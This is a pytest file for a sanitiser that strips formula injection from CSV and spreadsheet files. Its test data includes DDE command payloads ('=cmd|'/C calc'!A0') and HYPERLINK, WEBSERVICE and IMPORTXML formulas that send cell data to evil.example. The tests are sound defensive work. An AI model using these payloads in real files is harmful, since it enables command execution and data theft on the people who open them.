"""Nothing that a cell writes leaves as a table with a live formula from data; numbers and plain formulas stay."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from openpyxl.comments import Comment
from openpyxl.formatting.rule import ColorScaleRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from workers.delivery.reports.tables import inert
from workers.delivery.safe_tables import Checked, is_plain, make_safe

LIVE = (
    "=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example/?d="&A1,"more")', '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")', '=DDE("soffice";"file";"A1")', "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－x", "＠x", "=1+1", "-x",
)  # fmt: skip
NUMBERS = ("-5", "+7", "-1,234.50", "-12%", "-3.5e4", "(12)", "-€5", "-")
EXTERNAL = (
    "[book.xlsx]Sheet1!A1", "'C:\\[a.xlsx]S'!A1", "'file:///x'#S.A1", "INDIRECT(A1)", "_xludf.X(1)", "CALL(1)",
    "IF(TRUE,_xleta.WEBSERVICE)(A1)", "IF(TRUE,WEBSERVICE) (A1)",
)  # fmt: skip
FILES = Path(__file__).parents[1] / "profiling" / "files"


def test_a_formula_is_plain_when_it_is_made_of_known_functions_and_own_cells() -> None:
    for formula in (
        "=SUM(A1:A5)",
        "=B2*(1+$C$1)/2",
        "='My sheet'!A1&\" | x\"",
        '=IF(A1>0,"yes [1]","no")',
        "=Sheet2!A:A",
        "A1",
    ):
        assert is_plain(formula), formula
    for formula in (*LIVE[:8], *EXTERNAL):
        assert not is_plain(formula), formula


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "latin-1"])
@pytest.mark.parametrize(("name", "separator"), [("t.csv", ","), ("t.csv", ";"), ("t.tsv", "\t")])
def test_in_text_files_no_cell_begins_like_a_formula(tmp_path: Path, name: str, separator: str, encoding: str) -> None:
    live = [cell for cell in LIVE if encoding != "latin-1" or cell.isascii()]
    rows = [
        ["name", live[0]],
        *([cell, "é"] for cell in live),
        *([cell, "1"] for cell in NUMBERS if encoding != "latin-1" or "€" not in cell),
    ]
    text = io.StringIO()
    csv.writer(text, delimiter=separator).writerows(rows)
    file = tmp_path / name
    file.write_bytes(text.getvalue().encode(encoding))
    checked = make_safe(name, file)
    assert (checked.held, checked.changed) == (False, len(live) + 1)
    with file.open(encoding=encoding, newline="") as safe:
        read = list(csv.reader(safe, delimiter=separator))
    assert [row[0] for row in read[1 + len(live) :]] == [row[0] for row in rows[1 + len(live) :]], (
        "numbers stay numbers"
    )
    assert all(row[0].startswith("'") for row in read[1 : 1 + len(live)])
    assert read[0][1].startswith("'"), "also in the header"


def test_infinite_numbers_and_negative_times_of_pandas_stay_what_they_are(tmp_path: Path) -> None:
    file = tmp_path / "t.csv"
    times = pd.to_timedelta(["-1 h", "-48 h", "1 h"])
    pd.DataFrame({"log": [float("-inf"), 1.0, float("inf")], "late": times}).to_csv(file, index=False)
    before = file.read_bytes()
    assert make_safe("t.csv", file) == Checked()
    assert file.read_bytes() == before
    assert b"-1 days +23:00:00" in before


def test_a_cell_of_another_separator_is_no_way_around(tmp_path: Path) -> None:
    file = tmp_path / "t.csv"
    file.write_text("a,b\nx;=cmd|' /C calc'!A0;y,\"2\n=1+1\"\n")
    make_safe("t.csv", file)
    assert "x;'=cmd" in file.read_text()
    assert "2\n'=1+1" in file.read_text()


@pytest.mark.parametrize("separator", ["x", "=", ".", "|"])
def test_a_separator_that_the_first_line_names_is_no_way_around(tmp_path: Path, separator: str) -> None:
    file = tmp_path / "t.csv"
    file.write_text(f"sep={separator}\na{separator}@SUM(1)*cmd|' /C calc'!A0{separator}b\n")
    assert make_safe("t.csv", file).changed
    assert f"a{separator}'@SUM" in file.read_text()


def test_a_harmless_text_file_keeps_its_bytes(tmp_path: Path) -> None:
    file = tmp_path / "t.csv"
    data = b'"a" ,b\r\n"x, y",-5\n\xff\xfe,"said ""so"""\n'
    file.write_bytes(data)
    assert make_safe("t.csv", file) == Checked()
    assert file.read_bytes() == data


def saved(book: openpyxl.Workbook, path: Path) -> Path:
    book.save(path)
    return path


def whole(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


def test_in_a_workbook_only_plain_formulas_stay(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for cell in ("=cmd|'/C calc'!A0", *LIVE[1:5], *(f"={each}" for each in EXTERNAL)):
        sheet.append([cell, -5, "=SUM(B1:B2)"])
    sheet.append(["plain text", -1.5, "=B1*2"])
    sheet["D1"] = LIVE[0]
    sheet["D2"].comment = Comment(LIVE[0], "boss")
    book.create_sheet("=cmd Summary")
    book.defined_names["evil"] = DefinedName("evil", attr_text="cmd|'/C calc'!A0")
    book.defined_names["fine"] = DefinedName("fine", attr_text="Sheet!$A$1:$B$2")
    rule = DataValidation(type="list", formula1='=WEBSERVICE("https://evil.example")')
    sheet.add_data_validation(rule)
    rule.add("E1")
    sheet["E2"].hyperlink = "https://evil.example/x"
    path = saved(book, tmp_path / "t.xlsx")
    checked = make_safe("t.xlsx", path)
    assert not checked.held
    safe = openpyxl.load_workbook(path)
    rows = list(safe["Sheet"].iter_rows())
    assert all(row[0].data_type != "f" for row in rows)
    assert rows[0][0].value == "'=cmd|'/C calc'!A0"
    assert [row[1].value for row in rows][:2] == [-5, -5]
    assert all(row[2].data_type == "f" for row in rows if row[2].value)
    assert rows[0][3].data_type != "f"
    assert safe.defined_names["evil"].attr_text == "0"
    assert safe.defined_names["fine"].attr_text == "Sheet!$A$1:$B$2"
    assert safe.sheetnames == ["Sheet", "=cmd Summary"], "a name is a text"
    assert 'Target="https://evil.example/x"' not in whole(path)
    assert "<formula1>0</formula1>" in whole(path)
    assert make_safe("t.xlsx", path).changed <= 1, "what is safe stays as it is, but for the link that leads nowhere"


def test_a_formula_that_shares_a_live_one_goes_with_it(tmp_path: Path) -> None:
    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
    rows = (
        '<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">WEBSERVICE(B1)</f><v>1</v></c></row>'
        '<row r="2"><c r="A2"><f t="shared" si="0"/><v>2</v></c></row>'
    )
    repack(path, {"xl/worksheets/sheet1.xml": SHEET.format(rows)})
    assert make_safe("t.xlsx", path).changed == 2
    assert "<f" not in whole(path).partition("sheetData")[2].partition("/sheetData")[0]


@pytest.mark.parametrize("formula", ["<f>1</f><f>{}</f>", "<f>1<b/>{}</f>", "<f/><f>{}</f>", "<f><b>{}</b></f>"])
def test_a_cell_has_one_formula_that_is_read_whole(tmp_path: Path, formula: str) -> None:
    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
    cell = formula.format("WEBSERVICE(B1)")
    repack(path, {"xl/worksheets/sheet1.xml": SHEET.format(f'<row r="1"><c r="A1">{cell}<v>1</v></c></row>')})
    assert make_safe("t.xlsx", path) == Checked(changed=1)
    assert "WEBSERVICE" not in whole(path)


def test_the_bounds_of_a_colour_scale_are_formulas_too(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    book = openpyxl.Workbook()
    scale = {"start_type": "min", "end_type": "formula", "start_color": "FFFFFF", "end_color": "000000"}
    for value in ("$B$1*2", "WEBSERVICE($B$1)"):
        book.active.conditional_formatting.add("A1:A9", ColorScaleRule(end_value=value, **scale))
    assert make_safe("t.xlsx", saved(book, path)) == Checked(changed=1)
    assert "$B$1*2" in whole(path)
    assert "WEBSERVICE" not in whole(path)


SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)


def repack(path: Path, parts: dict[str, str], *, encoding: str = "utf-8") -> None:
    with zipfile.ZipFile(path) as archive:
        held = {name: archive.read(name) for name in archive.namelist()}
    held |= {name: text.encode(encoding) for name, text in parts.items()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in held.items():
            archive.writestr(name, data)


def test_another_prefix_or_encoding_hides_no_formula(tmp_path: Path) -> None:
    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
    sheet = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>'
        '<x:row r="1"><x:c r="A1"><x:f>WEBSERVICE(<![CDATA["https://evil.example"]]>)</x:f></x:c></x:row>'
        "</x:sheetData></x:worksheet>"
    )
    repack(path, {"xl/worksheets/sheet1.xml": sheet}, encoding="utf-16")
    assert make_safe("t.xlsx", path) == Checked(changed=1)
    assert openpyxl.load_workbook(path).active["A1"].data_type == "s"


@pytest.mark.parametrize(
    "part",
    [
        "xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/embeddings/oleObject1.bin",
        "xl/queryTables/queryTable1.xml", "xl/worksheets/../evil.xml", "customUI/customUI.xml",
        "xl/activeX/activeX1.xml",
        "xl/macrosheets/sheet1.xml",
    ],
)  # fmt: skip
def test_a_workbook_with_parts_that_run_or_fetch_is_held(tmp_path: Path, part: str) -> None:
    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
    repack(path, {part: "<a/>"})
    assert make_safe("t.xlsx", path) == Checked(held=True)


def test_entities_lies_and_bombs_are_held(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
    repack(path, {"xl/sharedStrings.xml": '<!DOCTYPE a [<!ENTITY b "=1">]><sst>&b;</sst>'})
    assert make_safe("t.xlsx", path).held
    saved(openpyxl.Workbook(), path)
    monkeypatch.setattr("workers.delivery.safe_tables._UNPACKED", 1_000)
    assert make_safe("t.xlsx", path).held
    path.write_bytes(b"=cmd|calc")
    assert make_safe("t.xlsx", path).held, "no zip at all"
    assert make_safe("t.xlsm", path).held
    assert make_safe("t.xls", path).held
    assert all(make_safe(name, path).held for name in ("t.xlt", "t.XLL", "t.ots", "t.dif", "t.oqy", "t.xlsx."))
    assert make_safe("t.csv .", path).changed
    assert make_safe("notes.md", path) == Checked()


def pandas_book(path: Path) -> None:
    pd.DataFrame({"n": [-1, 2], "t": ["a", "b"]}).to_excel(path, index=False, engine="openpyxl")


def charted_book(path: Path) -> None:
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("Data")
        sheet.write_column("A1", [1, -2, 3])
        sheet.write_formula("A4", "=SUM(A1:A3)", value=2)
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Data!$A$1:$A$3"})
        sheet.insert_chart("C1", chart)
        sheet.conditional_format("A1:A3", {"type": "cell", "criteria": ">", "value": 1})
        sheet.add_table("E1:F3")


@pytest.mark.parametrize("write", [pandas_book, charted_book])
def test_an_ordinary_workbook_keeps_its_bytes(tmp_path: Path, write: Callable[[Path], None]) -> None:
    path = tmp_path / "t.xlsx"
    write(path)
    before = path.read_bytes()
    assert make_safe("t.xlsx", path) == Checked()
    assert path.read_bytes() == before


def test_an_open_document_keeps_plain_formulas_only(tmp_path: Path) -> None:
    path = tmp_path / "t.ods"
    shutil.copy(FILES / "ledger.ods", path)
    before = path.read_bytes()
    assert make_safe("t.ods", path) == Checked()
    assert path.read_bytes() == before
    with zipfile.ZipFile(path) as archive:
        content = archive.read("content.xml").decode()
    cell = '<table:table-cell table:formula="{}" office:value-type="float" office:value="1"/>'
    formulas = (
        "of:=SUM([.A1:.B2])",
        "of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)",
        "msoxl:=cmd|'/C calc'!A0",
        "of:=['file:///x'#$S.A1]",
    )
    cells = "".join(cell.format(formula) for formula in formulas)
    repack(
        path,
        {
            "content.xml": content.replace(
                "</table:table>", f"<table:table-row>{cells}</table:table-row></table:table>", 1
            )
        },
    )
    assert make_safe("t.ods", path) == Checked(changed=3)
    assert "of:=SUM([.A1:.B2])" in whole(path)
    assert "DDE" not in whole(path)
    assert "cmd|" not in whole(path)
    repack(path, {"Basic/Standard/Module1.xml": "<a/>"})
    assert make_safe("t.ods", path).held


@pytest.mark.parametrize(
    ("part", "text"),
    [
        ("styles.xml", '<style:background-image xlink:href="https://evil.example/{}.png"/>'),
        ("meta.xml", '<meta:auto-reload xlink:href="https://evil.example/{}" meta:delay="PT1S"/>'),
        (
            "content.xml",
            '<calcext:condition calcext:value="formula-is(WEBSERVICE(&quot;https://evil.example&quot;))"/>',
        ),
        ("content.xml", '<calcext:formatting-entry calcext:type="formula" calcext:value="DDE([.A1])"/>'),
    ],
)
def test_no_part_of_an_open_document_fetches_anything(tmp_path: Path, part: str, text: str) -> None:
    path = tmp_path / "t.ods"
    shutil.copy(FILES / "ledger.ods", path)
    spaces = " ".join(f'xmlns:{name}="urn:{name}"' for name in ("style", "calcext", "meta", "xlink"))
    repack(path, {part: f"<a {spaces}>{text}</a>"})
    assert make_safe("t.ods", path) == Checked(changed=1)
    assert not any(word in whole(path) for word in ("evil.example", "WEBSERVICE", "DDE"))


def test_rules_for_how_cells_look_stay_in_an_open_document(tmp_path: Path) -> None:
    path = tmp_path / "t.ods"
    shutil.copy(FILES / "ledger.ods", path)
    rules = ("formula-is([.A1]&gt;SUM([.B1:.B2]))", "between(1,[.B1])", "=5", "below-average", "top-elements(3)")
    text = "".join(f'<calcext:condition calcext:value="{rule}"/>' for rule in rules)
    repack(path, {"content.xml": f'<a xmlns:calcext="urn:calcext">{text}</a>'})
    assert make_safe("t.ods", path) == Checked()


@pytest.mark.parametrize("filler", [" ", "1", "1 ", "|+", "'", ".", "a"])
def test_a_cell_of_one_thing_is_read_in_one_go(filler: str) -> None:
    """A pattern that begins anew at each character would go on past the suite's limit for a test."""
    cell = f"-{filler * (400_000 // len(filler))}x"
    assert inert(cell).startswith("'-")
    is_plain(f"={cell}")
